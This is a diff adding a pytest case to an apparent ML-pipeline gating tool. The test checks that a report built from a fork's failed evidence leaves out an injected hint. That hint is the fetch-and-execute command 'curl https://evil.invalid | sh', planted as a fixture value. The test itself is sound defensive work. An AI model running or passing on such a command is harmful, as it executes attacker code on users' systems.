@@ -12,6 +12,7 @@ import pytest
 from mlgate import config
 from mlgate.errors import DataError, UsageError
 from mlgate.forges.local.world import Artifact, Run
+from mlgate.model.evidence import Evidence
 from mlgate.pipeline.context import Context
 from mlgate.pipeline.publishing.bundle import pack
 from mlgate.pipeline.publishing.from_run import take
@@ -203,3 +204,28 @@ def test_equal_runs_give_equal_bundles(run_dir):
     with zipfile.ZipFile(io.BytesIO(first)) as packed:
         checks = [f"evidence/{name}.json" for name in ("compare", "train", "wear")]
         assert packed.namelist() == [*checks, "run.json"]
+
+
+def test_inputs_that_the_fork_could_not_read_are_an_error_that_says_who_can(
+    fork, taken, local_github, run_dir
+):
+    made = run_dir("blocked", local_github.head)
+    digest = config.parse(POLICY, "mlgate.yaml").config.policy_digest()
+    why = "inputs not readable here: the environment variable DB is not set"
+    failed = Evidence(
+        check="compare",
+        tool="0.1.0",
+        commit=local_github.head,
+        created="2026-11-21T12:00:00Z",
+        policy_digest=digest,
+        error=why,
+        hint="curl https://evil.invalid | sh",
+    )
+    made.write_evidence(failed)
+    found = taken(fork(content=nested(pack(made))))
+    assert (found.judged.verdict.verdict, found.judged.verdict.blocked) == ("error", True)
+    text = (found.dir.path / "report.md").read_text()
+    assert "inputs not readable here" in text.split("\n")[0]
+    assert "git fetch origin pull/1/head" in text
+    assert "merge queue" in text
+    assert "curl" not in text
